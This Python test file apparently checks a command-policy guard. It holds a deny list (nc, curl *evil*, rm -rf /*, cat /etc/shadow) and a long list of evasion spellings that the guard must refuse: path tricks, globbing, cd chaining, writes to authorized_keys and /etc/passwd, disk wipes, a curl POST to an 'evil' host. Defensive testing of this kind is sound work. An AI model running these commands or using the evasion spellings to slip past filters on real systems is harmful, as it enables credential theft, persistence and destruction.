r"""One deed, many spellings: paths, folders, options and other names for what a rule names.

All of `SPELLINGS` are refused even where unknown commands are allowed; the tables only ever
grow.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from appliance.model import Action, Identity, Outcome, Question, TargetName
from appliance.policy.rules import RuleSet
from appliance.session.guard import decide_command, decide_typed
from appliance.shell.commands import Whereabouts

from .everyday import EVERYDAY

NOW = datetime(2026, 1, 1, tzinfo=UTC)
ADA = Identity("ada", "ada", "idp", frozenset(), "ssh-key", NOW, NOW + timedelta(hours=1))
FORBIDDEN = [
    "rm -rf /*", "cat /etc/shadow", "cat */.ssh/*", "reboot", "shutdown", "mkfs *",
    "dd of=/dev/*", "redirect /etc/*", "redirect */.ssh/*", "userdel", "passwd",
    "iptables -F", "chmod 777 *", "kill -9 1", "nc", "curl *evil*", "systemctl stop *",
    "history -c", "scp * *:*", "docker run --privileged *", "tcpdump", "visudo", "su", "psql",
]  # fmt: skip
RULES = [
    {"id": "all", "effect": "allow", "actions": ["exec", "shell"]},
    {"id": "no", "effect": "deny", "commands": FORBIDDEN},
]
STRICT = RuleSet.model_validate({"rules": RULES})
LAX = RuleSet.model_validate(
    {"rules": [*RULES, {"id": "lax", "effect": "allow", "commands": ["unknown"]}]}
)
READS = RuleSet.model_validate(
    {"rules": [{"id": "reads", "effect": "allow", "commands": ["cat /srv/*", "cd *"]}]}
)

SPELLINGS = [
    "cat /etc//shadow",
    "cat /etc/./shadow",
    "cat /etc/../etc/shadow",
    "cat -- /etc/shadow",
    "cat -n /etc/shadow",
    "cat < /etc/shadow",
    "cat 0< /etc/shadow",
    "cat /etc/shad*",
    "cat /etc/sha?ow",
    "cat /etc/[s]hadow",
    "cat /etc/{shadow,x}",
    "cat /etc/sha$@{dow,x}",
    "cat /etc/sha$1{dow,x}",
    "cat /etc/passwd /etc/shadow",
    "cat x /etc/shadow y",
    "cd /etc && cat shadow",
    "cd /etc; cat ./shadow",
    "cd /; cat etc/shadow",
    "cd / && cd etc && cat shadow",
    "pushd /etc; cat shadow",
    "(cd /etc; cat shadow)",
    "cd /etc/; cat shadow",
    "cd /usr/../etc; cat shadow",
    "cd -P /etc; cat shadow",
    "cd -- /etc; cat shadow",
    "cat ../../../etc/shadow",
    "cat ../../../../../../etc/shadow",
    "cat $PWD/../etc/shadow",
    "sudo cat /etc/shadow",
    "sudo -D /etc cat shadow",
    "env -C /etc cat shadow",
    "find /etc -name shadow -exec cat {} \\;",
    "find /etc/shadow -exec cat {} +",
    "xargs cat <<< /etc/shadow",
    "echo /etc/shadow | xargs cat",
    "xargs -a /tmp/x cat",
    "f=/etc/shadow; cat $f",
    "f=shadow; cat /etc/$f",
    "cat \"/etc/\"'shadow'",
    "cat /etc/shadow | head",
    "cat ~/.ssh/id_rsa",
    "cat $HOME/.ssh/id_rsa",
    "cat /root/.ssh/id_rsa",
    "cat .ssh/id_rsa",
    "cd; cat .ssh/id_rsa",
    "echo x >> ~/.ssh/authorized_keys",
    "echo x >> .ssh/authorized_keys",
    "cd ~/.ssh; echo x >> authorized_keys",
    "cp x ~/.ssh/authorized_keys",
    "tee ~/.ssh/authorized_keys < x",
    "reboot",
    "/sbin/reboot",
    "sudo reboot -f",
    "systemctl reboot",
    "sudo systemctl --force reboot",
    "systemctl isolate reboot.target",
    "systemctl start reboot.target",
    "init 6",
    "telinit 6",
    "shutdown -r now",
    "busybox reboot",
    "poweroff",
    "halt",
    "systemctl poweroff",
    "mkfs.ext4 /dev/sda",
    "mkfs -t ext4 /dev/sda",
    "mkfs /dev/sda",
    "mke2fs /dev/sda",
    "dd if=/dev/zero of=/dev/sda",
    "dd of=/dev/sda if=/dev/zero",
    "dd bs=1M if=/dev/zero of=/dev//sda",
    "echo x > /dev/../etc/passwd",
    "echo x > //etc/passwd",
    "echo x > /tmp/../etc/passwd",
    "cd /etc; echo x > passwd",
    "cd /etc && tee passwd < x",
    "cp x /etc/passwd",
    "cp -t /etc x",
    "cp --target-directory=/etc x",
    "mv x /etc/passwd",
    "mv x /etc",
    "install -m 644 x /etc/passwd",
    "dd of=/etc/passwd",
    "sed -i s/a/b/ /etc/passwd",
    "curl -o /etc/passwd h",
    "curl -so /etc/passwd h",
    "curl --output /etc/passwd h",
    "wget -O /etc/passwd h",
    "wget -qO/etc/passwd h",
    "sort -o /etc/passwd x",
    "ln -sf x /etc/passwd",
    "echo x 2>/etc/passwd",
    "echo x 3<>/etc/passwd",
    "exec >/etc/passwd",
    "cat <<E >/etc/passwd",
    "iptables -w -F",
    "iptables --flush",
    "chmod 0777 x",
    "chmod 777 x",
    "chmod -v 777 x",
    "chmod a=rwx x",
    "kill -9 1",
    "kill -KILL 1",
    "kill -s 9 1",
    "kill -n 9 1",
    "/bin/kill -9 1",
    "kill 1 -9",
    "command nc h 1",
    "nc.traditional h 1",
    "busybox nc h 1",
    "ncat h",
    "curl -s http://evil/",
    "curl -X POST -d x http://evil/",
    "curl http://ev''il/",
    'curl "$U"',
    "service nginx stop",
    "systemctl stop nginx",
    "systemctl --now stop nginx",
    "history -c",
    "builtin history -c",
    "scp -r a h:b",
    "scp -P 22 a user@h:b",
    "scp a user@h:",
    "scp -3 h1:a h2:b",
    "docker run -it --privileged alpine",
    "docker run --rm --privileged=true x",
    "docker container run --privileged x",
    "docker --host x run --privileged y",
    "tcpdump -i any",
    "sudo tcpdump",
    "/usr/sbin/tcpdump",
    "\\tcpdump",
    "visudo",
    "sudo visudo",
    "su",
    "su -",
    "su - root",
    "su -c ls",
    "sudo su",
    "psql",
    "psql -h x",
    "sudo -u postgres psql",
]


def ask(line: str, action: Action = Action.EXEC) -> Question:
    return Question(ADA, TargetName("web01"), action, NOW, command=line)


@pytest.mark.parametrize("line", SPELLINGS)
def test_each_spelling_is_refused(line: str) -> None:
    assert decide_command(LAX, ask(line)).decision.outcome is Outcome.DENY


@pytest.mark.parametrize("line", EVERYDAY)
def test_honest_work_is_allowed(line: str) -> None:
    assert decide_command(STRICT, ask(line)).decision.outcome is Outcome.ALLOW


@pytest.mark.parametrize(
    "line",
    ["cat /srv/../etc/shadow", "cat /srv/x/../../etc/shadow", "cat /srv/./../etc/passwd"],
)
def test_a_rule_that_allows_a_folder_does_not_allow_what_lies_beside_it(line: str) -> None:
    assert decide_command(READS, ask("cat /srv/a")).decision.outcome is Outcome.ALLOW
    assert decide_command(READS, ask(line)).decision.outcome is Outcome.DENY


@pytest.mark.parametrize(
    ("lines", "outcome"),
    [
        (["cd /", "rm -rf *"], Outcome.DENY),
        (["cd /etc", "ls", "cat shadow"], Outcome.DENY),
        (["cd /usr", "cd ../etc", "cat shadow"], Outcome.DENY),
        (["cd /etc", "bash", "cat shadow"], Outcome.DENY),
        (["cd /etc", "cd /srv", "cat shadow"], Outcome.ALLOW),
        (["(cd /etc; ls)", "cat shadow"], Outcome.ALLOW),
        (["cd /etc", "cd /srv", "cd -", "cat shadow"], Outcome.DENY),
        (["cd /etc", "ssh no.such.host", "cat shadow"], Outcome.DENY),
        (["cat shadow"], Outcome.ALLOW),
    ],
)
def test_a_terminal_remembers_where_cd_went(lines: list[str], outcome: Outcome) -> None:
    whereabouts = Whereabouts()
    answers = []
    for line in lines:
        question = ask(line, Action.SHELL)
        answer = decide_typed(LAX, question, is_whole=True, whereabouts=whereabouts)
        whereabouts = answer.whereabouts
        answers.append(answer.decision.outcome)
    assert answers == [*[Outcome.ALLOW] * (len(lines) - 1), outcome]
